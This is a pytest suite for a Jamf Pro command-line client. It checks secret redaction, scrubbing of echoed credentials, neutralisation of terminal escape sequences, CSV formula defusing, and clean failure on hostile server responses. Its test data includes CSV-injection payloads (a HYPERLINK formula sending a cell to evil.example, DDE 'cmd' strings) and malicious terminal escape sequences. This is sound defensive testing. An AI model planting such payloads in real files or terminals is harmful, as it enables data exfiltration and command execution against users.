"""Hostile server data: whatever the server sends, jamfctl hides secrets, keeps the terminal safe, and
fails cleanly instead of running out of memory or stack.

Rules proven here, through the CLI against a fake Jamf Pro at the transport (or a raw socket):
- values of secret-bearing fields are redacted at any depth, in lists, in CSV columns and table cells,
  in every format; facts about secrets stay visible;
- error bodies that echo the submitted client secret or token are scrubbed, with and without --debug;
- escape sequences and control characters in server data (values, field names, the title) are
  neutralised in tables, while JSON keeps the data exactly;
- huge, endless or deeply nested responses and nonsense paging metadata end in exit 1 with a plain
  message (or render), never a crash, an unbounded allocation or an endless loop.
"""
from __future__ import annotations

import csv
import io
import json
import re
import resource
import socket
import threading
from urllib.parse import parse_qs

import httpx
import pytest
import yaml

from jamfctl import client as client_module
from jamfctl import wire as wire_module
from jamfctl.output import Renderer
from support.harness import Harness

SECRET = "Cl13nt-S3cret-hostile-0042"
TOKEN = "tok-hostile-7f3a9c1e5b"
URL = "https://hostile.jamfctl.invalid"
ENV = {"JAMF_URL": URL, "JAMF_CLIENT_ID": "hostile-client", "JAMF_CLIENT_SECRET": SECRET}
FORMATS = ("table", "json", "ndjson", "csv", "yaml")
INVENTORY = "/api/v4/computers-inventory"
# What must never reach a terminal from server data (a table's own newlines are fine).
UNSAFE = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


class HostileJamf:
    """A fake Jamf Pro: honest token endpoint, inventory answered from `records` (paged), or raw bodies."""

    def __init__(self, records=None, *, total=None, page_body=None, item_body=None, error=None, limit_requests=200):
        self.records = records or []
        self.total, self.page_body, self.item_body, self.error = total, page_body, item_body, error
        self.requests, self.limit_requests = 0, limit_requests

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests += 1
        if self.requests > self.limit_requests:  # a runaway loop fails the test instead of hanging it
            raise AssertionError(f"jamfctl sent more than {self.limit_requests} requests")
        if request.url.path == "/api/oauth/token":
            if self.error and self.error[0] == "token":
                return self.error[1](request)
            return httpx.Response(200, json={"access_token": TOKEN, "token_type": "Bearer", "expires_in": 1200})
        if self.error:
            return self.error[1](request)
        if request.url.path == INVENTORY:
            if self.page_body is not None:
                return httpx.Response(200, content=self.page_body(request),
                                      headers={"Content-Type": "application/json"})
            query = parse_qs(request.url.query.decode())
            page, size = int(query["page"][0]), int(query["page-size"][0])
            total = len(self.records) if self.total is None else self.total
            page_records = self.records[page * size:(page + 1) * size]
            return httpx.Response(200, json={"totalCount": total, "results": page_records})
        if self.item_body is not None:
            return httpx.Response(200, content=self.item_body, headers={"Content-Type": "application/json"})
        return httpx.Response(200, json=self.records[0])


@pytest.fixture
def cli(monkeypatch):
    return Harness(monkeypatch)


def against(cli: Harness, server: HostileJamf) -> HostileJamf:
    cli.use_transport(lambda: httpx.MockTransport(server))
    return server


def show_and_list(cli: Harness, fmt: str, *extra: str):
    return (cli.run(*extra, "computer", "show", "--id", "1", "-o", fmt, env=ENV),
            cli.run(*extra, "computer", "list", "-o", fmt, env=ENV))


def assert_failed_plainly(run, code: int = 1) -> None:
    assert run.exit_code == code, run.stderr
    assert run.stderr.startswith("Error") and len(run.stderr.strip().splitlines()) <= 2, run.stderr
    assert "Traceback" not in run.stderr and "unexpected error" not in run.stderr, run.stderr


# --- redaction --------------------------------------------------------------------------------------
def nest(depth: int, leaf: dict) -> dict:
    for level in range(depth):
        leaf = {f"level{level}": leaf} if level % 2 else {"items": [leaf]}
    return leaf


HIDDEN = {  # secret values the server sends, each somewhere different
    "top-level": "hunter2-toplevel",
    "in a list": "hunter2-inalist",
    "deep": "hunter2-deep-40",
    "classic suffix": "hunter2-suffix",
    "upper case": "hunter2-uppercase",
    "inside a dict value": "hunter2-dictvalue",
    "list of lists": "hunter2-listoflists",
}
FACTS = {"passwordMinLength": 12, "bootstrapTokenEscrowedStatus": "ESCROWED", "recoveryLockEnabled": True,
         "tokenExpirationDate": "2027-01-01", "individualRecoveryKeyValidityStatus": "VALID"}


def secretive_record() -> dict:
    return {
        "id": "1",
        "general": {"name": "Secretive-Mac", "password": HIDDEN["top-level"], **FACTS},
        "hardware": {"serialNumber": "C02SECRET001"},
        "localAdminAccounts": [{"username": "admin", "password": HIDDEN["in a list"]}],
        "extra": nest(40, {"clientSecret": HIDDEN["deep"], "passwordMinLength": 8}),
        "classic": {"ldapServerBindPassword": HIDDEN["classic suffix"], "PASSWORD": HIDDEN["upper case"],
                    "recoveryKey": {"value": HIDDEN["inside a dict value"]}},
        "matrix": [[{"apiKey": HIDDEN["list of lists"]}]],
    }


@pytest.mark.parametrize("fmt", FORMATS)
def test_secret_fields_are_redacted_at_any_depth_in_every_format(cli, fmt):
    """Secrets in lists, 40 levels down, under any case or a *Password suffix: never printed; facts stay."""
    against(cli, HostileJamf([secretive_record()]))
    for run in show_and_list(cli, fmt, "--debug"):
        assert run.exit_code == 0, run.stderr
        for where, value in HIDDEN.items():
            assert value not in run.stdout and value not in run.stderr, f"{where} secret printed ({fmt})"
    show, listing = show_and_list(cli, fmt)
    assert "<redacted>" in show.stdout
    if fmt in ("json", "yaml"):
        data = json.loads(show.stdout) if fmt == "json" else yaml.safe_load(show.stdout)
        assert {k: data["general"][k] for k in FACTS} == FACTS  # facts about secrets are what admins audit
        assert data["localAdminAccounts"][0] == {"username": "admin", "password": "<redacted>"}


def test_csv_flattening_and_table_cells_carry_no_secret(cli):
    """CSV columns (lists kept as JSON in one cell) and table cells: redacted before flattening."""
    against(cli, HostileJamf([secretive_record()]))
    run = cli.run("computer", "show", "--id", "1", "-o", "csv", env=ENV)
    header, row = list(csv.reader(io.StringIO(run.stdout)))
    cells = dict(zip(header, row, strict=True))
    assert cells["general.password"] == "<redacted>" and cells["general.passwordMinLength"] == "12"
    assert json.loads(cells["localAdminAccounts"]) == [{"username": "admin", "password": "<redacted>"}]
    assert not any(value in run.stdout for value in HIDDEN.values())
    table = cli.run("computer", "show", "--id", "1", "-o", "table", "--fields", "id,general", env=ENV)
    assert "<redacted>" in table.stdout and HIDDEN["top-level"] not in table.stdout


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
def test_csv_cells_that_a_spreadsheet_would_run_are_defused(cli, name):
    """End users name their Macs: a name a spreadsheet would evaluate as a formula gets a leading ' in CSV
    (OWASP's CSV-injection defence), while numbers such as -1 stay numbers and JSON keeps the name exactly."""
    record = {"id": "1", "general": {"name": name, "site": {"id": "-1"}}, "hardware": {"serialNumber": "C02AAAAAAAA1"}}
    against(cli, HostileJamf([record]))
    run = cli.run("computer", "list", "-o", "csv", "--fields", "id,general.name,general.site.id", env=ENV)
    assert run.exit_code == 0, run.stderr
    (header, row) = list(csv.reader(io.StringIO(run.stdout, newline="")))
    cells = dict(zip(header, row, strict=True))
    assert cells["general.name"] == "'" + name and cells["general.site.id"] == "-1"
    exact = cli.run("computer", "list", "-o", "json", "--fields", "general.name", env=ENV)
    assert json.loads(exact.stdout)[0]["general"]["name"] == name


def test_secrets_deeper_than_the_walk_are_withheld_not_printed(cli):
    """Nesting past the redaction walk's depth limit: the subtree is withheld, the secret never shown."""
    record = {"id": "1", "general": {"name": "deep"}, "extra": nest(450, {"password": "hunter2-bottom", "note": "x"})}
    against(cli, HostileJamf([record]))
    for fmt in ("json", "yaml", "csv", "table", "ndjson"):
        for run in show_and_list(cli, fmt):
            assert "hunter2-bottom" not in run.stdout
            if run.exit_code != 0:
                assert_failed_plainly(run)


# --- error bodies that echo what was sent -------------------------------------------------------------
def echo(status: int, kind: str):
    """A careless server: its error body repeats the submitted form and Authorization header."""

    def handler(request: httpx.Request) -> httpx.Response:
        sent = f"{request.content.decode()} {request.headers.get('authorization', '')}"
        if kind == "jamf":
            body = {"httpStatus": status, "errors": [{"code": "BAD", "description": f"cannot accept {sent}",
                                                      "field": sent}]}
        elif kind == "oauth":
            body = {"error": f"invalid_client {sent}", "error_description": sent}
        else:
            return httpx.Response(status, text=f"<html><body>{sent}</body></html>",
                                  headers={"Content-Type": "text/html"})
        return httpx.Response(status, json=body)

    return handler


@pytest.mark.parametrize("where", ["token", "api"])
@pytest.mark.parametrize("status", [400, 401, 403, 404, 409, 500, 503])
@pytest.mark.parametrize("kind", ["jamf", "oauth", "html"])
def test_error_bodies_echoing_the_secret_or_token_are_scrubbed(cli, where, status, kind):
    """Whatever the error body repeats of the request, neither secret nor token is printed (even --debug)."""
    against(cli, HostileJamf([secretive_record()], error=(where, echo(status, kind))))
    for extra in ([], ["--debug"]):
        run = cli.run(*extra, "computer", "show", "--id", "1", "-o", "json", env=ENV)
        assert run.exit_code in (1, 2, 3, 4, 5, 6), run.stderr
        assert SECRET not in run.text and TOKEN not in run.text, run.text
        assert "Traceback" not in run.stderr and "unexpected error" not in run.stderr


def test_secret_shaped_text_in_an_error_is_scrubbed_even_when_unknown(cli):
    """`password=...`, `access_token: ...` or `Bearer ...` in an error description: the value is removed."""
    said = 'password=tiger-lily-77 access_token: "abc123def456ghi" Authorization: Bearer zzzzyyyyxxxx1111'
    body = {"errors": [{"code": "X", "description": said}]}
    against(cli, HostileJamf(error=("api", lambda r: httpx.Response(400, json=body))))
    run = cli.run("--debug", "computer", "show", "--id", "1", env=ENV)
    assert run.exit_code == 1 and "rejected the request (400)" in run.stderr
    for value in ("tiger-lily-77", "abc123def456ghi", "zzzzyyyyxxxx1111"):
        assert value not in run.stderr


# --- the terminal ---------------------------------------------------------------------------------
EVIL = {
    "osc title": "\x1b]0;pwned\x07",
    "clear screen": "\x1b[2J\x1b[H",
    "colour": "\x1b[31mred\x1b[0m",
    "8-bit CSI": "\x9b31mX",
    "hyperlink": "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "backspaces": "admin\x08\x08\x08\x08\x08guest",
    "carriage return": "good\rEVIL",
    "bell": "ding\x07",
    "bidi override": "\u202egnp.exe",
    "isolate": "\u2066evil\u2069",
    "line separator": "one\u2028two",
    "NUL": "a\x00b",
    "DCS": "\x1bP+q\x1b\\",
}


def evil_record() -> dict:
    return {"id": "1",
            "general": {"name": "\x1b]0;pwned\x07Mac", "notes": list(EVIL.values()), **{k: v for k, v in EVIL.items()}},
            "hardware": {"serialNumber": "\x1b[2JC02X"}, "userAndLocation": {"username": "\u202euser"},
            "weird\x1b]0;key\x07": {"\x1b[31mfield": "value\x1b[0m"}}


def test_escape_sequences_in_server_data_are_neutralised_in_tables(cli):
    """A computer named `\\x1b]0;pwned\\x07` (and worse, in values, field names and the title) cannot drive the
    terminal."""
    against(cli, HostileJamf([evil_record()]))
    show, listing = show_and_list(cli, "table")
    assert show.exit_code == listing.exit_code == 0
    for run in (show, listing):
        assert not UNSAFE.search(run.stdout), repr(UNSAFE.findall(run.stdout))
        assert "\x1b" not in run.stdout
    assert "Mac (C02X, id 1)" in show.stdout and "Mac" in listing.stdout  # the sequence goes, the name stays
    assert "admin" in show.stdout and "guest" in show.stdout and "EVIL" in show.stdout


def test_escape_sequences_are_neutralised_with_colour_on(cli):
    """Colour on (a terminal): only the renderer's own SGR colour codes, nothing from the data."""
    out = io.StringIO()
    Renderer(out, "table", color=True, width=200).one(evil_record(), title=evil_record()["general"]["name"])
    Renderer(out, "table", color=True, width=200).many([evil_record()])
    text = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue())  # the renderer's own styling
    assert not UNSAFE.search(text), repr(UNSAFE.findall(text))


def test_machine_formats_keep_hostile_data_exactly(cli):
    """JSON, NDJSON and YAML are for programs: the data comes back byte for byte, safely encoded."""
    against(cli, HostileJamf([evil_record()]))
    for fmt, load in (("json", json.loads), ("ndjson", json.loads), ("yaml", yaml.safe_load)):
        data = load(cli.run("computer", "show", "--id", "1", "-o", fmt, env=ENV).stdout)
        assert data["general"]["notes"] == list(EVIL.values())
        assert data["weird\x1b]0;key\x07"] == {"\x1b[31mfield": "value\x1b[0m"}
    raw = cli.run("computer", "show", "--id", "1", "-o", "json", env=ENV).stdout
    assert "\x1b" not in raw and "\x07" not in raw  # JSON escapes control characters


def test_rich_markup_in_server_data_is_printed_literally(cli):
    """Square brackets in data are text, not styling or links."""
    record = {"id": "1", "general": {"name": "[bold red]x[/bold red] [link=http://evil.example]y[/link]"}}
    against(cli, HostileJamf([record]))
    for run in show_and_list(cli, "table"):
        assert "[bold red]x[/bold red]" in run.stdout and "[link=http://evil.example]y[/link]" in run.stdout


# --- size, depth, paging ------------------------------------------------------------------------------
def deep_json(depth: int, opener: str = "[", closer: str = "]") -> str:
    return opener * depth + "1" + closer * depth


@pytest.mark.parametrize("depth", [150, 900, 5000, 200_000])
@pytest.mark.parametrize("fmt", FORMATS)
def test_deeply_nested_responses_render_or_fail_cleanly(cli, depth, fmt):
    """Nesting of any depth, in a page and in a record: output or exit 1 with a plain line, never a crash."""
    page = ('{"totalCount":1,"results":[{"id":"1","general":{"name":"n"},"deep":' + deep_json(depth) + "}]}").encode()
    item = ('{"id":"1","general":{"name":"n"},"deep":' + deep_json(depth, '{"a":', "}") + "}").encode()
    against(cli, HostileJamf(page_body=lambda request: page, item_body=item))
    for run in show_and_list(cli, fmt):
        if run.exit_code != 0:
            assert_failed_plainly(run)
            assert re.search(r"invalid json|cannot read|nested too deeply", run.stderr, re.IGNORECASE), run.stderr


def test_a_huge_content_length_is_refused_without_allocating_it(cli):
    """A server announcing a terabyte body: refused at once, exit 1, no terabyte (nor gigabyte) allocated."""
    port, stop = raw_server(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                            b"Content-Length: 1000000000000\r\n\r\n{\"x\":")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    try:
        run = cli.run("computer", "list", "-o", "json", env={**ENV, "JAMF_URL": f"http://127.0.0.1:{port}"})
    finally:
        stop()
    assert_failed_plainly(run)
    assert "larger than" in run.stderr
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024  # KiB: < 200 MB more


def test_an_endless_body_is_cut_off_at_the_limit(cli, monkeypatch):
    """A body that never ends (no Content-Length): read up to the limit, then exit 1."""
    monkeypatch.setattr(wire_module, "MAX_RESPONSE_BYTES", 2 * 1024 * 1024)

    def endless():
        yield b'{"totalCount":1,"results":[{"id":"1","general":{"name":"'
        while True:
            yield b"x" * 65536

    def handler(request):
        if request.url.path == "/api/oauth/token":
            return httpx.Response(200, json={"access_token": TOKEN, "expires_in": 1200})
        return httpx.Response(200, stream=_Stream(endless()))

    cli.use_transport(lambda: httpx.MockTransport(handler))
    run = cli.run("computer", "list", "-o", "json", env=ENV)
    assert_failed_plainly(run)
    assert "larger than 2 MiB" in run.stderr


class _Stream(httpx.SyncByteStream):
    def __init__(self, chunks):
        self.chunks = chunks

    def __iter__(self):
        yield from self.chunks


def test_a_300_kb_name_renders_in_every_format(cli):
    """Big values are data, not an attack: every format prints them whole (tables fold them)."""
    name = "N" * 300_000
    against(cli, HostileJamf([{"id": "1", "general": {"name": name}}]))
    for fmt in FORMATS:
        for run in show_and_list(cli, fmt):
            assert run.exit_code == 0 and run.stdout.replace("\n", "").replace(" ", "").count("N") >= 300_000


@pytest.mark.parametrize("page, why", [
    ('{"totalCount":"abc","results":[]}', "totalCount is text"),
    ('{"totalCount":-5,"results":[]}', "negative totalCount"),
    ('{"totalCount":1e400,"results":[]}', "infinite totalCount"),
    ('{"totalCount":null,"results":[]}', "null totalCount"),
    ('{"totalCount":true,"results":[{"id":"1"}]}', "boolean totalCount"),
    ('{"totalCount":1,"results":{}}', "results is not a list"),
    ('{"totalCount":2,"results":[1,2]}', "records are not objects"),
    ('{"totalCount":1,"results":[{"id":5}]}', "id is a number"),
    ('{"totalCount":1,"results":[{"id":"1","general":"text"}]}', "a section is not an object"),
    ('{"results":[{"id":"1"}]}', "no totalCount"),
    ('[]', "a list instead of a page"),
    ('"hello"', "a string instead of a page"),
    ('{"totalCount":1,"results":[{"id":"1"}]} trailing', "data after the page"),
    ('', "an empty body"),
    ('\xff\xfe{', "not UTF-8"),
])
def test_nonsense_pages_fail_cleanly(cli, page, why):
    """Paging metadata or records that make no sense: exit 1, a plain message."""
    against(cli, HostileJamf(page_body=lambda request: page.encode("latin-1")))
    for fmt in ("json", "table"):
        run = cli.run("computer", "list", "-o", fmt, env=ENV)
        assert_failed_plainly(run)


@pytest.mark.parametrize("total, records", [(10**9, 0), (10**7, 3), (50, 30)])
def test_a_server_promising_more_than_it_sends_fails_loudly(cli, monkeypatch, total, records):
    """totalCount says more than the pages hold: no endless paging and no silent partial list."""
    monkeypatch.setattr(client_module, "MAX_PAGE_SIZE", 10)
    server = against(cli, HostileJamf([{"id": str(i), "general": {"name": f"m{i}"}} for i in range(1, records + 1)],
                                      total=total))
    run = cli.run("computer", "list", "--all", "-o", "json", env=ENV)
    assert_failed_plainly(run)
    assert "short" in run.stderr and server.requests < 20
    # What arrived, as a valid document (exit 1 says it is partial); nothing at all when no record arrived.
    assert len(json.loads(run.stdout)) <= records if records else run.stdout == ""


# --- helpers --------------------------------------------------------------------------------------
def raw_server(answer: bytes):
    """A one-shot-per-connection TCP server: token requests get a token, everything else gets `answer`."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    done = threading.Event()

    def serve():
        sock.settimeout(0.2)
        while not done.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            with conn:
                request = conn.recv(65536)
                if b"/api/oauth/token" in request.split(b"\r\n", 1)[0]:
                    body = json.dumps({"access_token": TOKEN, "expires_in": 1200}).encode()
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n"
                                 b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
                else:
                    conn.sendall(answer)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()

    def stop():
        done.set()
        thread.join(2)
        sock.close()

    return sock.getsockname()[1], stop
